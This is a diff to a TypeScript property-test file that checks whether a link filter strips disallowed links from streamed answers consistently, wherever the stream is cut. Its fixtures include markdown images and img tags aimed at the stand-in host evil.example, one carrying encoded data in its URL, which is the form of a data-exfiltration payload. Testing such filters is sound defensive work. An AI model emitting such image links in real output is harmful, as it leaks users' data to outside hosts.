@@ -171,67 +171,71 @@ describe("output links", () => {
     }
   });
 
-  it("a stream cut anywhere gives the same text as the whole answer (property)", () => {
+  /**
+   * Joins pieces into an answer, cuts it at random places, and checks the streamed result against
+   * stripping the whole answer at once (and, with `clean`, that no link to evil.example is left).
+   */
+  const streamProperty = (pieces: string[], maxPieces: number, clean: boolean) => {
     const p = links({ allow_domains: ["docs.acme.example"] });
-    const piece = fc.constantFrom(
-      "Hello ",
-      "![a](https://evil.example/p.png?d=Zm9vYmFyYmF6cXV4MTIzNDU2)",
-      "[guide](https://docs.acme.example/g)",
-      "[bad](https://evil.example/x)",
-      "[not a link] ",
-      "<img src='https://evil.example/i.png'>",
-      "!",
-      "[",
-      "](",
-      ")",
-      "\n",
-      "<",
-    );
     fc.assert(
       fc.property(
-        fc.array(piece, { maxLength: 12 }),
+        fc.array(fc.constantFrom(...pieces), { maxLength: maxPieces }),
         fc.array(fc.nat(), { maxLength: 6 }),
-        (pieces, cuts) => {
-          const text = pieces.join("");
+        (parts, cuts) => {
+          const text = parts.join("");
           const out = streamed(p, text, cutsOf(text, cuts));
-          return out === p.strip(text).text && !out.includes("evil.example");
+          return out === p.strip(text).text && (!clean || !out.includes("evil.example"));
         },
       ),
       { numRuns: 2000 },
+    );
+  };
+
+  it("a stream cut anywhere gives the same text as the whole answer (property)", () => {
+    streamProperty(
+      [
+        "Hello ",
+        "![a](https://evil.example/p.png?d=Zm9vYmFyYmF6cXV4MTIzNDU2)",
+        "[guide](https://docs.acme.example/g)",
+        "[bad](https://evil.example/x)",
+        "[not a link] ",
+        "<img src='https://evil.example/i.png'>",
+        "!",
+        "[",
+        "](",
+        ")",
+        "\n",
+        "<",
+      ],
+      12,
+      true,
     );
   });
 
   it("a stream of loose markdown fragments strips exactly what the whole answer strips (property)", () => {
-    const p = links({ allow_domains: ["docs.acme.example"] });
-    const piece = fc.constantFrom(
-      " ",
-      "x",
-      "(",
-      ")",
-      "[",
-      "]",
-      "](",
-      "!",
-      "<",
-      ">",
-      "<img ",
-      "\n",
-      '"t"',
-      'src="https://evil.example/q"',
-      "https://evil.example/z",
-      "[bad](https://evil.example/x)",
-      "[guide](https://docs.acme.example/g)",
-    );
-    fc.assert(
-      fc.property(
-        fc.array(piece, { maxLength: 16 }),
-        fc.array(fc.nat(), { maxLength: 6 }),
-        (pieces, cuts) => {
-          const text = pieces.join("");
-          return streamed(p, text, cutsOf(text, cuts)) === p.strip(text).text;
-        },
-      ),
-      { numRuns: 2000 },
+    // Bare URLs and attribute text stay (they are not links), so only equality is checked here.
+    streamProperty(
+      [
+        " ",
+        "x",
+        "(",
+        ")",
+        "[",
+        "]",
+        "](",
+        "!",
+        "<",
+        ">",
+        "<img ",
+        "\n",
+        '"t"',
+        'src="https://evil.example/q"',
+        "https://evil.example/z",
+        "[bad](https://evil.example/x)",
+        "[guide](https://docs.acme.example/g)",
+      ],
+      16,
+      false,
     );
   });
 });
